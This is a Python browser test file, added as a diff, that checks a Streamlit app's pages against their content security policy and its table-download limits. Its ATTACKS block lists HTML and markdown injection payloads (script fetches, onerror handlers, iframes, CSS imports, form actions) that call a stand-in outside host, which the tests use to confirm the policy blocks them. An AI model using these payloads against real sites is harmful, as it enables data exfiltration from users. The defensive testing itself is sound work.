@@ -1,0 +1,254 @@
+"""Every page works inside its policy, and what the policy is for does not get past it."""
+
+import http.server
+import re
+import threading
+from collections import Counter
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Locator, expect
+
+from playbook.desk import house, rollouts
+from playbook.settings import Settings
+from tests.browser.conftest import TODAY
+from tests.browser.screen import Screen, open_window
+from tests.browser.test_inert import opened_up
+from tools import server
+
+
+@pytest.fixture(scope="module")
+def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[server.Server, str]]:
+    """The app on the sample with a plan, and the id of that rollout."""
+    folder: Path = tmp_path_factory.mktemp("sample")
+    environ = {"PLAYBOOK_DATA": str(folder / "data"), "PLAYBOOK_TODAY": TODAY}
+    here = house.open_house(Settings.load(environ))
+    try:
+        rollout, _ = rollouts.open_sample(here, rollouts.samples()[-1].key)
+    finally:
+        here.close()
+    with server.running(server.ROOT / "app.py", folder / "app.log", environ=environ) as running:
+        yield running, rollout.id
+
+
+@pytest.fixture
+def window(chromium: Browser, sample: tuple[server.Server, str]) -> Iterator[Screen]:
+    """A window on the first page, with the sample open."""
+    running, rollout_id = sample
+    opened = open_window(chromium, running)
+    opened.open(f"?rollout={rollout_id}")
+    yield opened
+    opened.page.context.close()
+
+
+@dataclass
+class Seen:
+    """What one page did that it should not have, and what the bars over its tables and charts offer."""
+
+    complaints: list[str]
+    foreign: list[str]
+    charts: int
+    offered: list[str]
+
+
+def offered_by(bars: Locator) -> list[str]:
+    """What bars over tables or charts offer; they are there before one points at them."""
+    buttons = bars.get_by_test_id("stElementToolbar").locator("button").all()
+    return [(button.get_attribute("aria-label") or "").partition(":")[0] for button in buttons]
+
+
+@pytest.fixture(scope="module")
+def walk(chromium: Browser, sample: tuple[server.Server, str]) -> dict[str, Seen]:
+    """Every page of the navigation, opened cold and with its panels unfolded, by its address."""
+    running, rollout_id = sample
+    window = open_window(chromium, running)
+    window.open(f"?rollout={rollout_id}")
+    links = window.page.get_by_test_id("stSidebarNav").get_by_role("link").all()
+    addresses = [link.evaluate("link => new URL(link.href).pathname.slice(1)") for link in links]
+    seen = {}
+    for address in addresses:
+        window.open(f"{address}?rollout={rollout_id}")
+        opened_up(window)
+        main = window.page.get_by_test_id("stMain")
+        charts = main.get_by_test_id("stVegaLiteChart").locator("svg")
+        seen[address] = Seen(window.complaints, window.foreign, charts.count(), offered_by(main))
+        window.complaints, window.foreign = [], []
+    window.page.context.close()
+    return seen
+
+
+def test_every_page_stays_inside_its_policy_and_on_its_own_server(walk: dict[str, Seen]) -> None:
+    assert len(walk) >= 14
+    assert {address: page.complaints for address, page in walk.items() if page.complaints} == {}
+    assert {address: page.foreign for address, page in walk.items() if page.foreign} == {}
+    # There was something to hold: charts, tables and a table that is edited.
+    assert sum(page.charts for page in walk.values()) >= 4
+    assert "Add row" in walk["brief"].offered
+
+
+def test_no_table_offers_itself_as_a_file(walk: dict[str, Seen]) -> None:
+    offered = Counter(name for page in walk.values() for name in page.offered)
+    assert offered["Search"] >= 4
+    # A chart gives itself as a picture, and no file of its numbers.
+    assert {name for name in offered if re.search("download|export|csv|save", name, re.I)} <= {
+        "Download as PNG"
+    }
+
+
+def test_the_numbers_behind_a_chart_offer_themselves_no_more_than_a_table(window: Screen) -> None:
+    window.go("Progress")
+    page = window.page
+    tables = page.get_by_test_id("stDataFrame").count()
+    page.get_by_test_id("stVegaLiteChart").first.hover()
+    page.get_by_role("button", name="Show data").first.click()
+    expect(page.get_by_test_id("stDataFrame")).to_have_count(tables + 1)
+    offered = offered_by(page.get_by_test_id("stMain"))
+    assert offered.count("Search") == tables + 1
+    assert not [name for name in offered if re.search("csv", name, re.I)]
+
+
+def test_streamlit_alone_offers_every_table_as_a_file(tmp_path: Path, screen: Callable[..., Screen]) -> None:
+    script = tmp_path / "table.py"
+    script.write_text("import streamlit as st\nst.title('Table')\nst.dataframe({'a': [1]})\n")
+    with server.running(script, tmp_path / "log", cwd=tmp_path) as running:
+        window = screen(running)
+        window.open()
+        assert "Download as CSV" in offered_by(window.page.get_by_test_id("stMain"))
+
+
+def test_a_file_is_taken_and_given_inside_the_policy(window: Screen) -> None:
+    page = window.page
+    window.go("Brief")
+    opened_up(window)
+    page.get_by_test_id("stFileUploaderDropzoneInput").first.set_input_files(
+        {"name": "groups.csv", "mimeType": "text/csv", "buffer": b"Team,People\nStudio,9\n"}
+    )
+    expect(page.get_by_text("groups.csv")).to_be_visible()
+    window.settle()
+    window.go("History")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download the log").click()
+    assert Path(download.value.path()).read_bytes().startswith(b'{"event_schema"')
+    assert window.complaints == []
+    assert window.foreign == []
+
+
+# What a page would load or do if somebody's text became HTML, which no page of ours lets it (test_inert.py).
+# Not here: going elsewhere as a whole, by <meta http-equiv=refresh> say, which no policy forbids.
+ATTACKS = """
+![picture]({there}/image?q=secret)
+[![both]({there}/linked-image)]({there}/link)
+
+![by reference][there]
+
+[there]: {there}/reference
+
+<img src="{there}/img" onerror="fetch('{there}/onerror')">
+<script>fetch('{there}/script')</script>
+<script src="{there}/script.js"></script>
+<link rel="stylesheet" href="{there}/style.css">
+<link rel="prefetch" href="{there}/prefetch">
+<style>@import url({there}/import); p {{ background: url({there}/background) }}</style>
+<p style="background: url({there}/style)">styled</p>
+<iframe src="{there}/iframe"></iframe>
+<object data="{there}/object"></object>
+<embed src="{there}/embed">
+<video src="{there}/video" poster="{there}/poster"></video>
+<audio src="{there}/audio" autoplay></audio>
+<svg><image href="{there}/svg"></image></svg>
+<base href="{there}/">
+"""
+FORM = '<form action="{there}/form"><button>Continue</button></form>'
+
+PAGE = """
+import sys
+import streamlit as st
+sys.path.insert(0, {root!r})
+st.title("Attacked")
+st.markdown({attacks!r}, unsafe_allow_html=True)
+st.markdown({form!r}, unsafe_allow_html=True)
+st.html({attacks!r})
+"""
+ENVELOPED = """
+import sys
+sys.path.insert(0, {root!r})
+import streamlit as st
+from starlette.middleware import Middleware
+from playbook.ui.server import PAGE, is_host_allowed
+from playbook.web.envelope import Envelope
+around = Middleware(Envelope, page=PAGE, is_host_allowed=is_host_allowed, ours=[])
+app = st.App({page!r}, middleware=[around])
+"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Another site on this machine: its address, and what was asked of it."""
+    asked: list[str] = []
+
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - as above
+
+        def log_message(self, format: str, *args: object) -> None:
+            """Nothing: what counts is in the list."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
+        thread = threading.Thread(target=site.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{site.server_port}", asked
+        site.shutdown()
+        thread.join()
+
+
+@pytest.fixture
+def attacked(
+    tmp_path: Path, elsewhere: tuple[str, list[str]], screen: Callable[..., Screen]
+) -> Iterator[Callable[..., Screen]]:
+    """Open a page that shows every attack as HTML, in the envelope or without it."""
+    there, root = elsewhere[0], str(server.ROOT)
+    page, app = tmp_path / "attacked.py", tmp_path / "enveloped.py"
+    attacks, form = ATTACKS.format(there=there), FORM.format(there=there)
+    page.write_text(PAGE.format(root=root, attacks=attacks, form=form))
+    app.write_text(ENVELOPED.format(root=root, page=str(page)))
+    started: list[server.Server] = []
+
+    def opened(script: Path) -> Screen:
+        started.append(server.start(script, tmp_path / "log", cwd=tmp_path))
+        window = screen(started[-1])
+        window.page.on("dialog", lambda dialog: (window.complaints.append("dialog"), dialog.dismiss()))
+        window.page.goto(window.url)
+        expect(window.page.get_by_text("Continue")).to_be_visible(timeout=30_000)
+        window.settle()
+        window.page.get_by_text("Continue").dispatch_event("click")
+        window.page.wait_for_timeout(1500)
+        return window
+
+    yield lambda *, is_enveloped: opened(app if is_enveloped else page)
+    for one in started:
+        one.stop()
+
+
+def test_without_the_envelope_such_a_page_asks_elsewhere(
+    attacked: Callable[..., Screen], elsewhere: tuple[str, list[str]]
+) -> None:
+    attacked(is_enveloped=False)
+    paths = {path.partition("?")[0].strip("/") for path in elsewhere[1]}
+    assert {"image", "linked-image", "reference", "img", "iframe", "form"} <= paths
+
+
+def test_in_the_envelope_nothing_of_it_reaches_another_site(
+    attacked: Callable[..., Screen], elsewhere: tuple[str, list[str]]
+) -> None:
+    window = attacked(is_enveloped=True)
+    assert elsewhere[1] == []
+    forbidden = [words for words in window.complaints if words.startswith("against the policy")]
+    assert any("img-src" in words for words in forbidden)
+    assert any("form-action" in words for words in forbidden)
+    assert "dialog" not in window.complaints
